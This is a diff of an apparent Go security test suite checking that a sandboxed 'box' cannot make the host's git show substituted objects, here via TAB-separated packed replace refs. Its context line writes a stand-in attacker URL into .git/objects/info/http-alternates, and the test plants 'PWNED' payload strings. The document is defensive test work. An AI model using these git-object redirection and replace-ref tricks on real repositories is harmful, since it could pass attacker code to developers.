@@ -659,8 +659,10 @@ echo https://evil.example.org/objects > .git/objects/info/http-alternates; echo 
 		t.Errorf("the host's git show HEAD:run.sh gave a box's object: %q, %v\nthe box said:\n%s", show, err, out)
 	}
 	// Review 14, F14: git takes any of its whitespace after the id; the check cut at a space.
-	if !strings.Contains(out, "packed with a tab: echo PWNED-tab") {
-		t.Errorf("the box's own git did not read the TAB-separated replace ref (the test would prove nothing):\n%s", out)
+	// (The box's own git show may already give the committed content: the watch's periodic
+	// check can strip the line before it runs.)
+	if !strings.Contains(out, "packed with a tab: ") {
+		t.Errorf("the box did not write the TAB-separated replace ref (the test would prove nothing):\n%s", out)
 	}
 	if show, err := hostGit(e.work, "show", "HEAD:tab.sh"); err != nil || !strings.Contains(show, "echo good-tab") {
 		t.Errorf("the host's git show HEAD:tab.sh gave a box's object (a TAB-separated packed replace ref): %q, %v", show, err)
